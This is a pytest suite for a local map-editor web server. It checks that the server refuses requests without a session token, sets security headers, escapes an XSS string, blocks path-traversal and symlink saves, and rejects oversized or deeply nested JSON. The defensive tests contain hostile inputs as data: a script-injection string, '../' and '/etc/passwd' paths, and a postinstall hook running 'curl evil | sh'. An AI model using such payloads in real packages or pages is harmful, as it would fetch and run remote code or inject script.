"""The studio's server with any input (issue 21): every refusal, its status and its message.

The session token, the security headers, confined "save as" (never through a symlink,
never outside the root, never over mapkit's own files, only maps), request bodies that
JSON can carry but a map cannot (1e999, 100,000 levels deep, over 1 MiB), and strings
that must round-trip (half a character).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mapkit.cli import app as cli
from mapkit.mapfile import MAX_FILE_BYTES, writer
from mapkit.studio.guard import PAGE_CSP, SVG_CSP
from tests.test_studio_api import BASE, HOST, JSON, ROOT, TOKEN, client_for, put

runner = CliRunner()


@pytest.fixture
def map_file(tmp_path, tiny_doc) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    path = folder / "tiny.json"
    path.write_text(writer.dumps(tiny_doc), encoding="utf-8")
    return path


@pytest.fixture
def client(map_file):
    with client_for(map_file) as c:
        yield c


LACKS = (
    "refused: this request lacks the studio's session token; open the address mapkit studio "
    "printed when it started (it ends in ?token=...)"
)
WRONG = (
    "refused: wrong session token (from an earlier run of mapkit studio?); open the address "
    "mapkit studio printed when it started (it ends in ?token=...)"
)


@pytest.mark.parametrize(
    "route, method", [("/api/map", "GET"), ("/api/sheet.svg", "GET"), ("/api/save", "POST"),
                      ("/api/map", "PUT"), ("/api/simulate", "POST")],
)  # fmt: skip
def test_requests_without_the_session_token_are_refused(client, map_file, route, method):
    before = map_file.read_bytes()
    for headers, message in (
        ({"X-Mapkit-Token": ""}, LACKS),
        ({"X-Mapkit-Token": "guess"}, WRONG),
        ({"X-Mapkit-Token": TOKEN + "x"}, WRONG),
    ):
        res = client.request(method, route, headers={**headers, **JSON}, content=b"{}")
        assert res.status_code == 403
        assert res.json() == {"error": message}
    assert map_file.read_bytes() == before


def test_the_page_needs_the_token_in_its_address(map_file):
    with client_for(map_file) as c:
        bare = c.get("/", headers={"X-Mapkit-Token": ""})
        assert bare.status_code == 403 and bare.headers["content-type"].startswith("text/plain")
        assert bare.text == LACKS + "\n"
        page = c.get(f"/?token={TOKEN}", headers={"X-Mapkit-Token": ""})
        assert page.status_code == 200
        assert f'<meta name="mapkit-token" content="{TOKEN}">' in page.text
        assert f'src="/static/studio.js?token={TOKEN}"' in page.text
        js = c.get(f"/static/studio.js?token={TOKEN}", headers={"X-Mapkit-Token": ""})
        assert js.status_code == 200
        assert c.get("/static/studio.js", headers={"X-Mapkit-Token": ""}).status_code == 403
        assert c.get("/favicon.ico", headers={"X-Mapkit-Token": ""}).status_code == 204


def test_every_answer_carries_the_security_headers(client):
    page = client.get("/")
    assert page.headers["content-security-policy"] == PAGE_CSP
    assert "script-src 'self';" in PAGE_CSP and "unsafe-inline" not in PAGE_CSP
    assert "frame-ancestors 'none'" in PAGE_CSP
    for res in (page, client.get("/api/map"), client.get("/api/sheet.svg"), client.get("/nope")):
        assert res.headers["x-content-type-options"] == "nosniff"
        assert res.headers["x-frame-options"] == "DENY"
        assert res.headers["referrer-policy"] == "no-referrer"
        assert res.headers["cache-control"] == "no-store"
        assert "frame-ancestors 'none'" in res.headers["content-security-policy"]
    svg = client.get("/api/sheet.svg")
    assert svg.headers["content-security-policy"] == SVG_CSP
    assert SVG_CSP.endswith("sandbox") and "script" not in SVG_CSP


def test_a_hostile_map_is_drawn_as_escaped_text(client, tiny_doc):
    evil = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    tiny_doc["name"] = evil
    tiny_doc["stations"][0]["name"] = evil
    assert put(client, tiny_doc).status_code == 200
    svg = client.get("/api/sheet.svg?labels=1").text
    assert "<script" not in svg and "<img" not in svg
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in svg


# ---- save as -----------------------------------------------------------------------------


def _save_as(client, name, **extra):
    body = json.dumps({"path": name, **extra})
    res = client.post("/api/save", content=body, headers=JSON)
    return res.status_code, res.json()["error"] if res.status_code != 200 else res.json()


def test_save_as_refusals(client, map_file, tmp_path):
    root = map_file.parent
    hint = f"give a .json file name inside {root}, like my-city.json"
    (root / "folder.json").mkdir()
    (root / "sub").mkdir()
    outside = tmp_path / "outside.json"
    outside.write_text("precious", encoding="utf-8")
    (root / "link.json").symlink_to(outside)
    (root / "linked").symlink_to(tmp_path)
    (root / "dangling.json").symlink_to(tmp_path / "nowhere.json")
    os.mkfifo(root / "fifo.json")
    link = "is a symbolic link; the studio never writes through one"
    not_dir = "is a symbolic link or not a folder; refusing"
    out = f"(no '..'); {hint}"
    cases = [
        ("", 400, f"save as: {hint}"),
        ("   ", 400, f"save as: {hint}"),
        (7, 400, f"save as: {hint}"),
        ("a\0.json", 400, "save as: the file name holds a NUL character"),
        ("x" * 1100 + ".json", 400, "save as: the file name is longer than 1024 bytes"),
        ("x" * 300 + ".json", 400, f"save as: a name in {'x' * 300}.json is longer than 255 bytes"),
        ("~/x.json", 403, f"save as: ~/x.json: the home folder (~) is outside {root}; {hint}"),
        (str(outside), 403, f"save as: {outside} is an absolute path; {hint}"),
        ("/etc/passwd.json", 403, f"save as: /etc/passwd.json is an absolute path; {hint}"),
        ("../outside.json", 403, f"save as: ../outside.json leads out of {root} {out}"),
        ("sub/../../x.json", 403, f"save as: sub/../../x.json leads out of {root} {out}"),
        ("notes.txt", 400, "save as: notes.txt must end in .json"),
        (".json", 400, "save as: .json must end in .json"),
        ("missing/x.json", 400, f"save as: there is no folder missing in {root}"),
        ("tiny.json/x.json", 403, f"save as: tiny.json {not_dir}"),
        ("linked/outside.json", 403, f"save as: linked {not_dir}"),
        ("link.json", 403, f"save as: link.json {link}"),
        ("dangling.json", 403, f"save as: dangling.json {link}"),
        ("folder.json", 400, "save as: folder.json is a folder; name a .json file"),
        ("fifo.json", 403, "save as: fifo.json is not a regular file; refusing"),
    ]  # fmt: skip
    for name, status, message in cases:
        assert _save_as(client, name, overwrite=True) == (status, message), name
    assert outside.read_text(encoding="utf-8") == "precious"
    assert not (tmp_path / "nowhere.json").exists() and not (tmp_path / "x.json").exists()
    assert sorted(p.name for p in root.iterdir()) == sorted(
        ["tiny.json", "folder.json", "sub", "link.json", "linked", "dangling.json", "fifo.json"]
    )


def test_save_as_inside_the_root_and_its_folders(client, map_file):
    (map_file.parent / "sub").mkdir()
    status, data = _save_as(client, "./sub/copy.json")
    assert status == 200 and data["path"] == str(map_file.parent / "sub" / "copy.json")
    assert data["name"] == "sub/copy.json" and data["dirty"] is False
    assert (map_file.parent / "sub" / "copy.json").read_bytes() == map_file.read_bytes()


def test_save_as_never_writes_over_mapkits_own_files(tiny_doc):
    schema = ROOT / "schemas" / "map.schema.json"
    before = schema.read_bytes()
    with client_for(ROOT / "new-city.json", root=ROOT) as c:
        put(c, tiny_doc)
        for name, folder in (
            ("schemas/map.schema.json", ROOT / "schemas"),
            ("maps/berlin.json", ROOT / "maps"),
            ("mapkit/studio/x.json", ROOT / "mapkit" / "studio"),
        ):
            message = f"save as: {folder} holds mapkit's own files; save the map elsewhere"
            assert _save_as(c, name, overwrite=True) == (403, message)
    assert schema.read_bytes() == before
    assert not (ROOT / "new-city.json").exists()


def test_only_maps_are_written(client, map_file, tiny_doc):
    before = map_file.read_bytes()
    package = {"name": "x", "scripts": {"postinstall": "curl evil | sh"}}
    assert put(client, package).status_code == 200  # the session holds it: a draft
    res = client.post("/api/save", json={"path": "package.json"})
    assert res.status_code == 422
    assert res.json()["error"].startswith("not saved: the map does not pass the map schema (SCH00")
    assert client.post("/api/save", json={"overwrite": True}).status_code == 422
    assert map_file.read_bytes() == before and not (map_file.parent / "package.json").exists()
    tiny_doc["stations"][0]["colour"] = "red"  # a key the schema does not know
    put(client, tiny_doc)
    res = client.post("/api/save", json={})
    assert res.status_code == 422 and "/stations/0" in res.json()["error"]


# ---- bodies ------------------------------------------------------------------------------


def _put_raw(client, text: str | bytes):
    rev = client.get("/api/map").json()["revision"]
    body = text.replace("REV", rev) if isinstance(text, str) else text
    return client.put("/api/map", content=body, headers=JSON)


@pytest.mark.parametrize(
    "body, message",
    [
        ('{"revision": "REV", "map": {"x": 1e999}}',
         "the number 1e999 is too large to be represented"),
        ('{"revision": "REV", "map": {"x": -1E400}}',
         "the number -1E400 is too large to be represented"),
        ('{"revision": "REV", "map": {"x": ' + "9" * 400 + "}}",
         "the number 99999999999999999999... is too large"),
        ('{"revision": "REV", "map": {"x": Infinity}}', "Infinity is not a number JSON allows"),
        ('{"revision": "REV", "map": {"x": NaN}}', "NaN is not a number JSON allows"),
        ('{"revision": "REV", "map": ' + "[" * 100_000 + "]" * 100_000 + "}",
         "nesting deeper than 128 levels"),
        ('{"revision": "REV", "map": {"x": ' + "[" * 200 + "]" * 200 + "}}",
         "nesting deeper than 128 levels"),
    ],
)  # fmt: skip
def test_numbers_and_nesting_no_map_can_hold_are_refused(client, map_file, body, message):
    before = client.get("/api/map").json()
    res = _put_raw(client, body)
    assert res.status_code == 400
    assert res.json() == {"error": f"request body is not valid JSON: {message}"}
    after = client.get("/api/map")
    assert after.status_code == 200 and after.json() == before
    assert client.post("/api/save", json={"overwrite": True}).status_code == 200
    assert "Infinity" not in map_file.read_text(encoding="utf-8")


def test_a_body_over_a_mebibyte_is_413(client):
    message = (
        f"request body over {MAX_FILE_BYTES} bytes: a map is at most 1 MiB (as validate reads it)"
    )
    big = b'{"revision": "r", "map": {"description": "' + b"x" * MAX_FILE_BYTES + b'"}}'
    res = client.put("/api/map", content=big, headers=JSON)
    assert res.status_code == 413 and res.json() == {"error": message}

    def chunks():  # no Content-Length: counted as it arrives
        yield big[:1000]
        yield big[1000:]

    res = client.put("/api/map", content=chunks(), headers=JSON)
    assert res.status_code == 413 and res.json() == {"error": message}
    assert client.get("/api/map").status_code == 200


def test_half_a_character_is_read_as_the_loader_reads_it(client, map_file, tiny_doc):
    tiny_doc["stations"][0]["name"] = "Zoo \ud83d"  # half of an emoji, as a paste can leave it
    tiny_doc["name"] = "\udc18 Tiny"
    body = json.dumps({"revision": client.get("/api/map").json()["revision"], "map": tiny_doc})
    assert "\\ud83d" in body
    res = client.put("/api/map", content=body, headers=JSON)
    assert res.status_code == 200 and res.json()["replaced"] == 2
    expected = json.loads(
        json.dumps(tiny_doc).replace("\\ud83d", "\\ufffd").replace("\\udc18", "\\ufffd")
    )
    assert res.json()["map"] == expected and expected["name"] == "\ufffd Tiny"
    got = client.get("/api/map")
    assert got.status_code == 200 and got.json()["map"] == expected
    assert client.get("/api/diagnostics").status_code == 200
    assert client.get("/api/sheet.svg?labels=1").status_code == 200
    assert client.post("/api/save", json={}).status_code == 200
    res = runner.invoke(cli, ["validate", "--format", "json", str(map_file)])
    assert json.loads(res.output)["files"][0]["diagnostics"] == []
    with client_for(map_file) as again:  # the studio and the loader read the file alike
        assert again.get("/api/map").json()["map"] == expected
    assert put(client, expected).json().keys() == {"revision", "dirty"}


def test_malformed_requests_are_4xx(client):
    assert client.get("/api/diagnostics?paper=%00").status_code == 400
    assert client.post("/api/save", content=b"[]", headers=JSON).json() == {
        "error": 'expected a JSON object like {"overwrite": false} or {"path": "new-city.json"}'
    }
    assert client.post("/api/reload", content=b"1", headers=JSON).status_code == 400
    assert client.post("/api/save", content=b"{", headers=JSON).status_code == 400
    assert client.post("/api/simulate", json={"games": 1.5}).status_code == 400
    assert client.delete("/api/map").status_code == 405
    assert client.get("/api/nothing").status_code == 404
    assert client.get("/", headers={"Host": HOST.replace("8123", "1")}).status_code == 403
    assert BASE.endswith(HOST)
